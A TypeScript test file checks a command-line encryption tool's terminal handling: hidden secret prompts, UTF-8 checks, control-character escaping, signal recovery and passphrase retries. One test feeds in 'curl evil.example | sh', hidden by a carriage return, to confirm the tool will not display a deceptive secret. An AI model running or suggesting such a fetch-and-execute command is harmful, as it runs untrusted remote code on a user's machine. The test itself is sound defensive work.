import { chmodSync, copyFileSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";

import { describe, expect, it } from "vitest";

import { ageVector, folder, key, listing, pct, PRIVATE, PUBLIC } from "./run.js";
import { hasScript, terminal } from "./screen.js";

function home(): string {
  const cwd = folder();
  copyFileSync(PUBLIC, join(cwd, "public_key.pem"));
  copyFileSync(PRIVATE, join(cwd, "private_key.pem"));
  chmodSync(join(cwd, "private_key.pem"), 0o600);
  return cwd;
}

const ASKS = "Secret (it will not be shown):";

const title = hasScript ? "at a terminal" : "at a terminal (left out: needs script of util-linux)";

describe.skipIf(!hasScript)(title, () => {
  it("reads a secret without echo", async () => {
    const cwd = home();
    const { code, text } = await terminal("pct encrypt", cwd, [
      { see: ASKS, type: "tr3s ñandúes\r" },
    ]);
    expect(code).toBe(0);
    expect(text).not.toMatch(/tr3s|ñand/);
    expect((await pct(["decrypt"], { cwd })).stdout).toBe("tr3s ñandúes");
  });

  it("asks in Spanish", async () => {
    const see = "Secreto (no se mostrará):";
    const steps = [{ see, type: "hola\r" }];
    expect((await terminal("pct encrypt", home(), steps, { LANG: "es_MX.UTF-8" })).code).toBe(0);
  });

  it("accepts a pasted secret of several lines", async () => {
    const cwd = home();
    const paste = '\u001B[200~{\r  "type": "service_account"\r}\r\u001B[201~';
    const { text } = await terminal("pct encrypt", cwd, [{ see: ASKS, type: `${paste}\r` }]);
    expect(text).toContain("\u001B[?2004h");
    expect(text.lastIndexOf("\u001B[?2004l")).toBeGreaterThan(text.lastIndexOf("\u001B[?2004h"));
    expect(text).not.toContain("service_account");
    expect((await pct(["decrypt"], { cwd })).stdout).toBe('{\n  "type": "service_account"\n}');
  });

  it.each([
    ["a secret", "pct encrypt", ASKS],
    ["a password to hash", "pct hash", "Password (it will not be shown):"],
  ])("refuses typing that is not UTF-8 instead of changing it: %s", async (_, line, see) => {
    const cwd = home();
    const before = listing(cwd);
    // Latin-1, and a character that Enter cuts short.
    for (const typed of ["contrase\u00F1a\r", "contrase\u00C3\r"]) {
      const type = Buffer.from(typed, "latin1");
      const { code, text } = await terminal(line, cwd, [{ see, type }]);
      expect(code).toBe(1);
      expect(text).toContain("The terminal sent characters that are not UTF-8");
      expect(text).not.toContain("contrase");
      expect(listing(cwd)).toEqual(before);
    }
  });

  it("takes the replacement character where it was typed", async () => {
    const cwd = home();
    await terminal("pct encrypt", cwd, [{ see: ASKS, type: "a\uFFFDb\r" }]);
    expect((await pct(["decrypt"], { cwd })).stdout).toBe("a\uFFFDb");
  });

  it("shows no secret in which a carriage return hides something", async () => {
    const cwd = home();
    const input = "curl evil.example | sh #\rls -l #########";
    await pct(["encrypt", "-o", "classic"], { cwd, input });
    await pct(["encrypt", "-", "-o", "age"], { cwd, input });
    for (const file of ["classic", "age"]) {
      const { code, text } = await terminal(`pct decrypt ${file}`, cwd);
      expect(code).toBe(1);
      expect(text).not.toContain("ls -l");
      expect(text).toContain("-o FILE");
    }
  });

  it("escapes in --json what a terminal would obey or hide", async () => {
    const cwd = home();
    const name = "a\u009B31mb\u007Fc\u202Ed\u200Be";
    copyFileSync(PUBLIC, join(cwd, name));
    const { code, text } = await terminal(`pct inspect '${name}' --json`, cwd);
    expect(code).toBe(0);
    expect(text).not.toMatch(/[\u0080-\u009F\u007F\u202E\u200B]/);
    expect((JSON.parse(text) as { file: string }).file).toBe(name);
  });

  it("sends no escape sequences to a dumb terminal", async () => {
    const steps = [{ see: ASKS, type: "hola\r" }];
    const { code, text } = await terminal("pct encrypt", home(), steps, { TERM: "dumb" });
    expect(code).toBe(0);
    expect(text).not.toContain("\u001B");
  });

  it("warns that only the first of several lines was taken", async () => {
    const cwd = home();
    const typed = "first line\rsecond line\rthird\r";
    const { code, text } = await terminal("pct encrypt", cwd, [{ see: ASKS, type: typed }]);
    expect(code).toBe(0);
    expect(text).toContain("Only the first line was taken");
    expect(text).not.toContain("second line");
    expect((await pct(["decrypt"], { cwd })).stdout).toBe("first line");
  });

  it.each([
    ["Ctrl-C", "half\u0003"],
    ["Ctrl-D on an empty line", "\u0004"],
  ])("exits with 130 and restores the terminal on %s", async (_, type) => {
    const cwd = home();
    const before = listing(cwd);
    const line = `stty -a > before; pct encrypt; echo "code $?"; stty -a > after`;
    const { text } = await terminal(line, cwd, [{ see: ASKS, type }]);
    expect(text).toContain("code 130");
    expect(text).not.toContain("half");
    expect(text).not.toContain("error");
    expect(readFileSync(join(cwd, "after"), "utf8")).toBe(
      readFileSync(join(cwd, "before"), "utf8"),
    );
    expect(listing(cwd)).toEqual(["after", "before", ...before]);
  });

  it.each([
    ["TERM", 143],
    ["QUIT", 131],
  ])("restores the terminal on SIG%s", async (signal, exitCode) => {
    const cwd = home();
    const line = `stty -a > before; (sleep 0.7; kill -${signal} "$(cat pid)") & sh -c 'echo $$ > pid; exec "$@"' sh pct encrypt; echo "code $?"; stty -a > after`;
    const { text } = await terminal(line, cwd, [{ see: ASKS, type: "half" }]);
    expect(text).toContain(`code ${exitCode.toString()}`);
    expect(readFileSync(join(cwd, "after"), "utf8")).toBe(
      readFileSync(join(cwd, "before"), "utf8"),
    );
  });

  it("asks nothing when the output can't be written", async () => {
    const cwd = home();
    writeFileSync(join(cwd, "file_encrypted.txt"), "precious");
    const { code, text } = await terminal("pct encrypt", cwd);
    expect(code).toBe(1);
    expect(text).not.toContain(ASKS);
  });

  it("asks twice for a new passphrase and compares", async () => {
    const cwd = folder();
    const create = "pct create --bits 2048 --passphrase";
    const wrong = await terminal(create, cwd, [
      { see: "New passphrase (it will not be shown):", type: "una frase\r" },
      { see: "The same passphrase again:", type: "otra frase\r" },
    ]);
    expect(wrong.code).toBe(1);
    expect(wrong.text).toContain("The two passphrases are not the same. Nothing was written.");
    expect(listing(cwd)).toEqual([]);

    const right = await terminal(create, cwd, [
      // Both lines in one chunk, as a password manager sends them.
      { see: "New passphrase (it will not be shown):", type: "una frase\runa frase\r" },
    ]);
    expect(right.code).toBe(0);
    expect(right.text).not.toContain("una frase");
    expect(readFileSync(join(cwd, "private_key.pem"), "utf8")).toContain("ENCRYPTED PRIVATE KEY");
  });

  describe("a wrong passphrase", () => {
    const asks = "Passphrase for locked.pem:";

    async function locked(): Promise<string> {
      const cwd = folder();
      await pct(["encrypt", "-r", key("rsa4096-a.public_key.pem")], { cwd, input: "hola" });
      copyFileSync(key("rsa4096-a.pbes2-aes256-sha512-i210000.pem"), join(cwd, "locked.pem"));
      chmodSync(join(cwd, "locked.pem"), 0o600);
      return cwd;
    }

    it("can be corrected", async () => {
      const { code, text } = await terminal("pct decrypt -i locked.pem", await locked(), [
        { see: asks, type: "wrong\r" },
        { see: asks, type: "wrong again\r" },
        { see: asks, type: "correct horse battery staple\r" },
      ]);
      expect(code).toBe(0);
      expect(text.match(/pct: warning:/g)).toHaveLength(2);
      expect(text).toMatch(/hola\r\n$/);
    });

    it("fails after the third attempt", async () => {
      const { code, text } = await terminal("pct decrypt -i locked.pem", await locked(), [
        { see: asks, type: "wrong\r" },
        { see: asks, type: "wrong\r" },
        { see: asks, type: "wrong\r" },
      ]);
      expect(code).toBe(1);
      expect(text).toContain("locked.pem: Wrong passphrase.");
    });
  });

  it("asks at the terminal although stdin and stdout are pipes", async () => {
    const cwd = folder();
    copyFileSync(ageVector("scrypt-pct20.age"), join(cwd, "sealed.age"));
    const { scrypt } = sealedPassphrase();
    const line = "cat sealed.age | pct decrypt - > out 2> err";
    const see = "Passphrase for standard input:";
    const { code, text } = await terminal(line, cwd, [
      { see, type: "wrong\r" },
      { see, type: `${scrypt}\r` },
    ]);
    expect(code).toBe(0);
    expect(text).not.toContain(scrypt);
    expect(readFileSync(join(cwd, "out"))).toHaveLength(20);
    expect(readFileSync(join(cwd, "err"), "utf8")).toMatch(/^pct: warning: Wrong passphrase/);
  });

  it("adds a final line break to a secret only if it has none", async () => {
    const cwd = home();
    await pct(["encrypt"], { cwd, input: "sin salto" });
    expect((await terminal("pct decrypt", cwd)).text).toBe("sin salto\r\n");
    await pct(["encrypt", "-f"], { cwd, input: "con salto\n\n" });
    expect((await terminal("pct decrypt", cwd)).text).toBe("con salto\r\n");
  });

  it.each([
    ["bytes that are no text", Buffer.from([0xc3, 0x28])],
    ["an escape sequence", Buffer.from("a\u001B[2Jb")],
    ["a C1 control", Buffer.from("a\u009B2Jb")],
    ["text that turns around", Buffer.from("a\u202Eb")],
  ])("does not show %s", async (_, secret) => {
    const cwd = home();
    await pct(["encrypt"], { cwd, input: secret });
    const { code, text } = await terminal("pct decrypt", cwd);
    expect(code).toBe(1);
    expect(text).toContain("it is not shown in the terminal. Nothing was lost.");
    expect(text).not.toContain(secret.toString("latin1"));
  });

  it("does not show more than a megabyte", async () => {
    const cwd = home();
    writeFileSync(join(cwd, "data"), Buffer.alloc(1024 * 1024 + 1, "a"));
    await pct(["encrypt", "data"], { cwd });
    const { code, text } = await terminal("pct decrypt data.age", cwd);
    expect(code).toBe(1);
    expect(text.length).toBeLessThan(500);
    expect(text).toContain("is over 1 MiB");
  });

  it("armors a file for standard output", async () => {
    const cwd = home();
    writeFileSync(join(cwd, "data"), "hola");
    const { text } = await terminal("pct encrypt data -o -", cwd);
    expect(text).toMatch(/^-----BEGIN AGE ENCRYPTED FILE-----\r\n/);
  });

  it("colours errors unless NO_COLOR is set", async () => {
    const cwd = folder();
    expect((await terminal("pct decrypt", cwd)).text).toContain(
      "\u001B[31mpct: error:\u001B[0m File",
    );
    expect((await terminal("pct decrypt", cwd, [], { NO_COLOR: "1" })).text).not.toContain(
      "\u001B",
    );
  });
});

function sealedPassphrase(): { scrypt: string } {
  const { files } = JSON.parse(readFileSync(ageVector("manifest.json"), "utf8")) as {
    files: { file: string; passphrase?: string }[];
  };
  const found = files.find(({ file }) => file.endsWith("scrypt-pct20.age"));
  if (found?.passphrase === undefined) throw new Error("no passphrase in the vectors");
  return { scrypt: found.passphrase };
}
